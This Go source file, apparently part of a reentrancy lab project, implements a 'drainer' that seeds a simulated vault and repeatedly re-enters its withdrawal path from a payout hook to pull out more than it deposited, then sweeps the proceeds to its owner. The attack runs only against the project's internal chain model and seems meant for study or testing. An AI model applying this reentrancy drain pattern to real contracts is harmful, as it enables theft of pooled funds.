// Package drainer implements a program that empties a vault by re-entering its
// withdrawal path from the hook that receives each payout.
package drainer

import (
	"context"
	"errors"
	"fmt"
	"sync"

	"github.com/shopspring/decimal"
	"go.uber.org/zap"

	"github.com/sheikh-saqib/reentrancy-ledger-lab/internal/chain"
	interfaces "github.com/sheikh-saqib/reentrancy-ledger-lab/internal/interfaces"
	"github.com/sheikh-saqib/reentrancy-ledger-lab/internal/models"
)

var (
	ErrInvalidSeed           = errors.New("seed must be a positive whole number")
	ErrInvalidRecursionLimit = errors.New("recursion limit must not be negative")
	ErrUnauthorized          = errors.New("caller is not the owner")
	ErrNothingToWithdraw     = errors.New("nothing to withdraw")
	ErrAttackInFlight        = errors.New("attack already in flight")
)

// Chain is the part of the chain the drainer needs.
type Chain interface {
	Register(id models.Identity, r interfaces.Receiver)
	Transfer(ctx context.Context, from, to models.Identity, amount decimal.Decimal) error
	BalanceOf(id models.Identity) decimal.Decimal
}

// AttackReport describes one completed attack.
type AttackReport struct {
	Seed           decimal.Decimal
	RecursionLimit int
	// Withdrawals counts successful withdrawals, the outermost included.
	Withdrawals int
	// Reentries counts nested withdraw attempts made from the hook.
	Reentries int
	// Extracted is the value received from the vault during the attack.
	Extracted decimal.Decimal
	// RejectedReentry is the error of the nested withdraw that stopped the
	// recursion, if the vault refused one.
	RejectedReentry error
}

// Profit is what the attack extracted beyond its own seed.
func (r AttackReport) Profit() decimal.Decimal {
	return r.Extracted.Sub(r.Seed)
}

// An Option configures a Drainer.
type Option func(*Drainer)

func WithLogger(logger *zap.Logger) Option {
	return func(d *Drainer) { d.logger = logger }
}

// Drainer is bound to one vault for its whole life. Its collected funds are
// its held balance on the chain.
type Drainer struct {
	chain   Chain
	vault   interfaces.Vault
	owner   models.Identity
	address models.Identity
	logger  *zap.Logger

	mu        sync.Mutex // protects the fields below
	attacking bool
	budget    int
	seed      decimal.Decimal
	report    AttackReport
}

// New deploys a drainer targeting vault and registers its hook on c.
func New(c Chain, vault interfaces.Vault, owner models.Identity, opts ...Option) *Drainer {
	d := &Drainer{
		chain:   c,
		vault:   vault,
		owner:   owner,
		address: models.NewIdentity(),
		logger:  zap.NewNop(),
	}
	for _, opt := range opts {
		opt(d)
	}
	d.logger = d.logger.Named("drainer").With(zap.Stringer("drainer", d.address))
	c.Register(d.address, d)
	return d
}

func (d *Drainer) Address() models.Identity { return d.address }

func (d *Drainer) Owner() models.Identity { return d.owner }

// Held is the value the drainer currently holds.
func (d *Drainer) Held() decimal.Decimal {
	return d.chain.BalanceOf(d.address)
}

// Attack takes seed from caller, deposits it into the vault and withdraws it
// again, re-entering the withdrawal up to recursionLimit times.
func (d *Drainer) Attack(ctx context.Context, caller models.Identity, recursionLimit int, seed decimal.Decimal) (AttackReport, error) {
	if !seed.IsPositive() || !seed.IsInteger() {
		return AttackReport{}, fmt.Errorf("%w: %s", ErrInvalidSeed, seed)
	}
	if recursionLimit < 0 {
		return AttackReport{}, fmt.Errorf("%w: %d", ErrInvalidRecursionLimit, recursionLimit)
	}

	d.mu.Lock()
	if d.attacking {
		d.mu.Unlock()
		return AttackReport{}, ErrAttackInFlight
	}
	d.attacking = true
	d.mu.Unlock()
	defer func() {
		d.mu.Lock()
		d.attacking = false
		d.budget = 0
		d.mu.Unlock()
	}()

	if err := d.chain.Transfer(ctx, caller, d.address, seed); err != nil {
		return AttackReport{}, fmt.Errorf("failed to fund seed: %w", err)
	}
	if err := d.vault.Deposit(ctx, d.address, seed); err != nil {
		if refundErr := d.chain.Transfer(ctx, d.address, caller, seed); refundErr != nil {
			d.logger.Error("failed to refund seed", zap.Stringer("caller", caller), zap.Error(refundErr))
		}
		return AttackReport{}, fmt.Errorf("failed to deposit seed: %w", err)
	}

	d.mu.Lock()
	d.budget = recursionLimit
	d.seed = seed
	d.report = AttackReport{Seed: seed, RecursionLimit: recursionLimit, Extracted: decimal.Zero}
	d.mu.Unlock()

	log := d.logger.With(zap.Stringer("seed", seed), zap.Int("recursionLimit", recursionLimit))
	log.Info("attack started", zap.Stringer("pooled", d.vault.PooledFunds()))

	err := d.vault.Withdraw(ctx, d.address, seed)

	d.mu.Lock()
	report := d.report
	d.mu.Unlock()
	if err != nil {
		log.Warn("attack withdrawal failed", zap.Error(err))
		return report, fmt.Errorf("failed to withdraw seed: %w", err)
	}
	report.Withdrawals++

	log.Info("attack finished",
		zap.Int("withdrawals", report.Withdrawals),
		zap.Int("reentries", report.Reentries),
		zap.Stringer("extracted", report.Extracted),
		zap.Stringer("pooled", d.vault.PooledFunds()))
	return report, nil
}

// Receive is the hook the chain runs when value arrives. Payouts from the
// vault during an attack trigger another withdrawal while budget remains and
// the vault can still cover the seed.
func (d *Drainer) Receive(ctx context.Context, from models.Identity, amount decimal.Decimal) {
	if from != d.vault.Address() {
		return
	}

	d.mu.Lock()
	if !d.attacking {
		d.mu.Unlock()
		return
	}
	d.report.Extracted = d.report.Extracted.Add(amount)
	if d.budget <= 0 || d.vault.PooledFunds().LessThan(d.seed) {
		d.mu.Unlock()
		return
	}
	d.budget--
	d.report.Reentries++
	seed := d.seed
	d.mu.Unlock()

	err := d.vault.Withdraw(ctx, d.address, seed)

	d.mu.Lock()
	defer d.mu.Unlock()
	if err != nil {
		// stop recursing; the outer withdrawal still completes
		d.report.RejectedReentry = err
		d.logger.Debug("reentry rejected", zap.Int("depth", chain.Depth(ctx)), zap.Error(err))
		return
	}
	d.report.Withdrawals++
}

// WithdrawToOwner sweeps everything the drainer holds to its owner.
func (d *Drainer) WithdrawToOwner(ctx context.Context, caller models.Identity) (decimal.Decimal, error) {
	if caller != d.owner {
		return decimal.Zero, fmt.Errorf("%w: %s", ErrUnauthorized, caller)
	}
	held := d.Held()
	if !held.IsPositive() {
		return decimal.Zero, ErrNothingToWithdraw
	}
	if err := d.chain.Transfer(ctx, d.address, d.owner, held); err != nil {
		return decimal.Zero, fmt.Errorf("failed to sweep: %w", err)
	}
	d.logger.Info("swept to owner", zap.Stringer("owner", d.owner), zap.Stringer("amount", held))
	return held, nil
}
